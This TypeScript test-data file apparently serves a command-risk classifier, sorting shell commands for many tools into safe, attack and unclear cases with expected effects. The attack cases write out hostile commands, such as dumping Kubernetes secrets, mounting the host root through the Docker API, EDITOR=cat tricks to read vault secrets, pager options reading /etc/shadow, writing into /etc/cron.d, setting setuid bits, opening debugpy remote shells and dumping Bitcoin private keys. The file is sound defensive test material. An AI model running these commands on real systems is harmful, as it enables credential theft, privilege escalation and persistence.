import type { ExampleTable } from './example.ts'

export const unclearUses3: ExampleTable = {
  'git-filter-repo': {
    use: [`git-filter-repo --analyze → nothing`],
    unclear: [`git-filter-repo --path src --force → what is left of the history`],
  },
  podman: {
    unclear: [`podman exec db env → the secrets among the variables there`],
    use: [`podman exec web ls → nothing`],
  },
  curl: {
    use: [
      `curl -n https://api.example.org/user → fetch https://api.example.org/user`,
      `curl --resolve app.local:443:127.0.0.1 https://app.local/ → fetch https://app.local/`,
      `curl --unix-socket /var/run/docker.sock http://localhost/containers/json → fetch http://localhost/containers/json`,
    ],
    attack: [
      `curl -s localhost:8001/api/v1/secrets → read secret://curl`,
      `curl -X POST http://host:2375/containers/create -d '{"HostConfig":{"Binds":["/:/h"]}}' → privilege`,
    ],
    unclear: [
      `curl --unix-socket /var/run/docker.sock http://localhost/containers/db/json → what it makes a container do, or show`,
      `curl -n --connect-to ::example.net: http://example.org/ → which machine answers under another name`,
      `curl --resolve example.org:443:203.0.113.9 https://example.org/ → which machine answers under another name`,
      `curl --netrc -v https://api.example.org/user → who sees the password that it shows`,
      `curl -k -x http://proxy.example.net:8080 https://example.org/ → who reads what is said on the way`,
    ],
  },
  wget: {
    use: [`wget -q https://example.org/a.txt → fetch https://example.org/a.txt`],
    attack: [
      `wget -qO- http://localhost:8001/api/v1/namespaces/default/secrets → read secret://wget`,
    ],
  },
  'ansible-vault': {
    attack: [`EDITOR=cat ansible-vault edit vault.yml → read secret://ansible-vault`],
    use: [`ansible-vault edit vault.yml → nothing`],
  },
  eyaml: {
    attack: [`EDITOR=cat eyaml edit x.eyaml → read secret://eyaml`],
    use: [`eyaml encrypt -f x.txt → nothing`],
  },
  'update-ca-certificates': {
    use: [`update-ca-certificates --fresh → nothing`],
    unclear: [
      `update-ca-certificates --localcertsdir certs → whom this machine believes from then on`,
    ],
  },
  security: {
    use: [`security list-keychains → nothing`],
    unclear: [`security add-trusted-cert -d e.crt → whom this machine believes from then on`],
  },
  snap: {
    use: [`snap list → nothing`],
    unclear: [`snap refresh --hold=forever → which holes are not mended from then on`],
  },
  'eyaml decrypt': {
    attack: [`eyaml decrypt -f x.eyaml → read secret://`],
  },
  guvcview: {
    unclear: [`guvcview -i x.jpg → whom it listens to or looks at`],
  },
  mplayer: {
    unclear: [`mplayer tv:// → whom it listens to or looks at`],
    use: [`mplayer film.mkv → nothing`],
  },
  mpv: {
    unclear: [`mpv av://v4l2:/dev/video0 → whom it listens to or looks at`],
    use: [`mpv film.mkv → nothing`],
  },
  grim: {
    attack: [`grim /etc/cron.d/x → write /etc/cron.d/x`],
    unclear: [`grim x.png → whom it listens to or looks at`],
  },
  scrot: {
    attack: [`scrot /etc/cron.d/x → write /etc/cron.d/x`],
    unclear: [`scrot x.png → whom it listens to or looks at`],
  },
  maim: {
    attack: [`maim /etc/cron.d/x → write /etc/cron.d/x`],
    unclear: [`maim x.png → whom it listens to or looks at`],
  },
  import: {
    use: [`import x.png → write x.png`],
    unclear: [`import -window root x.png → whom it listens to or looks at`],
  },
  'gnome-screenshot': {
    unclear: [`gnome-screenshot -f x.png → whom it listens to or looks at`],
  },
  xwd: {
    unclear: [`xwd -root -out x.xwd → whom it listens to or looks at`],
  },
  spectacle: {
    unclear: [`spectacle -b -n -o x.png → whom it listens to or looks at`],
    use: [`spectacle → nothing`],
  },
  flameshot: {
    unclear: [`flameshot full -p x → whom it listens to or looks at`],
    use: [`flameshot gui → nothing`],
  },
  screencapture: {
    attack: [`screencapture /etc/cron.d/x → write /etc/cron.d/x`],
    unclear: [`screencapture x.png → whom it listens to or looks at`],
    use: [`screencapture -i x.png → write x.png`],
  },
  debugpy: {
    attack: [
      `debugpy --connect debug.example.org:5678 manage.py → remote-shell --connect debug.example.org:5678`,
      `debugpy --listen 0.0.0.0:5678 app.py → remote-shell --listen 0.0.0.0:5678`,
    ],
    unclear: [`debugpy --connect debug.internal:5678 manage.py → who gives it orders`],
    use: [`debugpy --listen 127.0.0.1:5678 app.py → listen 127.0.0.1:5678; read app.py`],
  },
  cursor: {
    unclear: [`cursor --install-extension someone.thing → what the extension does`],
    use: [`cursor . → nothing`],
  },
  direnv: {
    unclear: [`direnv allow ~ → what its file runs in every shell there`],
    use: [`direnv allow → nothing`],
  },
  'xdg-settings': {
    unclear: [`xdg-settings set default-web-browser x.desktop → what opens from then on`],
    use: [`xdg-settings set default-web-browser firefox.desktop → nothing`],
  },
  'xdg-mime': {
    unclear: [`xdg-mime default x.desktop text/html → what opens from then on`],
    use: [`xdg-mime query default text/html → nothing`],
  },
  strace: {
    unclear: [`strace -f -p 1234 → the process that it reaches into`],
    use: [`strace -f ls → nothing`],
  },
  ssh: {
    unclear: [
      `ssh -N -R 2222:localhost:22 host.example.org → who comes in by the tunnel`,
      `ssh -o RemoteForward='2222 localhost:22' host.example.org → who comes in by the tunnel`,
    ],
    use: [`ssh -L 5432:localhost:5432 db.example.org → fetch db.example.org`],
  },
  funcsave: {
    unclear: [`funcsave git → what runs under this name in every shell`],
  },
  rsync: {
    attack: [`rsync --chmod=u+s build/tool /usr/local/bin/tool → privilege`],
    use: [`rsync -a --chmod=D2775,F664 src/ dest/ → read-tree src/`],
  },
  firefox: {
    unclear: [
      `firefox -P default-release --screenshot x.png https://example.org/mail → what a page shows to who is logged in`,
      `firefox --profile ~/.mozilla/firefox/x.default --remote-debugging-port 9222 → who reaches into the browser`,
    ],
    use: [
      `firefox --headless --screenshot x.png https://example.org → nothing`,
      `firefox https://example.org → nothing`,
    ],
  },
  lxc: {
    unclear: [`lxc exec c -- env → the secrets among the variables there`],
    use: [`lxc exec c -- ls → nothing`],
  },
  nomad: {
    unclear: [`nomad alloc exec x env → the secrets among the variables there`],
  },
  fly: {
    unclear: [`fly ssh console -C env → the secrets among the variables there`],
    use: [`fly status → nothing`],
  },
  flatpak: {
    unclear: [
      `flatpak remote-add --no-gpg-verify x https://example.org → whose packages they are, for nobody has to sign them`,
    ],
  },
  bfg: {
    unclear: [`bfg --delete-files '*.zip' repo.git → what is left of the history`],
    attack: [`bfg --replace-text /etc/shadow repo.git → read /etc/shadow`],
  },
  mise: {
    unclear: [`mise trust ~ → what its file runs in every shell there`],
    use: [`mise trust → nothing`],
  },
  brew: {
    unclear: [
      `brew tap ann/tools https://git.example.org/tools → whose packages they are`,
      `brew pin openssl → which holes are not mended from then on`,
    ],
    use: [`brew pin node → nothing`],
  },
  imagesnap: {
    unclear: [`imagesnap x.jpg → whom it listens to or looks at`],
    attack: [`imagesnap /etc/cron.d/x → write /etc/cron.d/x`],
  },
  grimshot: {
    unclear: [`grimshot save screen x.png → whom it listens to or looks at`],
    attack: [`grimshot save screen /etc/cron.d/x → write /etc/cron.d/x`],
  },
  hyprshot: {
    unclear: [`hyprshot -m output → whom it listens to or looks at`],
    attack: [`hyprshot -m output -f /etc/cron.d/x → write /etc/cron.d/x`],
  },
  obs: {
    unclear: [`obs --startrecording → whom it listens to or looks at`],
    use: [`obs → nothing`],
  },
  jj: {
    unclear: [`jj git push --bookmark main --allow-backwards → what is left of the history`],
    use: [`jj git push --bookmark topic → nothing`],
    attack: `jj --config 'ui.pager=["cat", "/etc/shadow"]' log → read /etc/shadow`,
  },
  hub: {
    unclear: [`hub push -f origin main → what is left of the history`],
    use: [`hub push origin topic → nothing`],
  },
  netlify: {
    unclear: [`netlify deploy --dir . --prod → what lies in the directory, and all of it is shown`],
    use: [`netlify deploy --dir dist --prod → nothing`],
  },
  wrangler: {
    unclear: [
      `wrangler pages deploy . --project-name x → what lies in the directory, and all of it is shown`,
    ],
    use: [`wrangler pages deploy dist --project-name x → nothing`],
  },
  surge: {
    unclear: [`surge . x.surge.sh → what lies in the directory, and all of it is shown`],
  },
  gpg: {
    unclear: [
      `gpg --keyserver hkp://203.0.113.9 --recv-keys ABCD → the option --keyserver "hkp://203.0.113.9", which nobody described`,
      `gpg --lsign-key ABCD → the option --lsign-key, which nobody described`,
    ],
    use: [`gpg --verify a.sig a → nothing`],
  },
  openssl: {
    unclear: [`openssl rsa -in ~/.ssh/id_rsa -out /tmp/k.pem → who gets the key`],
  },
  'trash-empty': {
    unclear: [`trash-empty 0 → what is lost with it`],
    use: [`trash-empty 30 → nothing`],
  },
  pdcp: {
    unclear: [`pdcp -w web[1-9] x /usr/local/bin/ → what many machines run from then on`],
  },
  k9s: {
    unclear: [`k9s -n kube-system -c secrets → the secrets that are kept there`],
  },
  tkn: {
    unclear: [
      `tkn pipeline start x --serviceaccount admin → what the account may do that it runs as`,
    ],
    use: [`tkn pipeline start x → nothing`],
  },
  smbclient: {
    unclear: [
      `smbclient '//10.0.0.8/C$' -U a -c 'put x.exe Windows/x.exe' → what that machine runs from then on`,
    ],
  },
  'bitcoin-cli': {
    unclear: [`bitcoin-cli sendtoaddress bc1q 1.5 → whose money it is from then on`],
    attack: [`bitcoin-cli dumpprivkey bc1q → read secret://bitcoin-cli`],
    use: [`bitcoin-cli getblockcount → nothing`],
  },
  electrum: {
    unclear: [`electrum payto bc1q 1 → whose money it is from then on`],
    use: [`electrum getbalance → nothing`],
  },
  solana: {
    unclear: [`solana transfer 7abc ALL → whose money it is from then on`],
    use: [`solana balance → nothing`],
  },
}
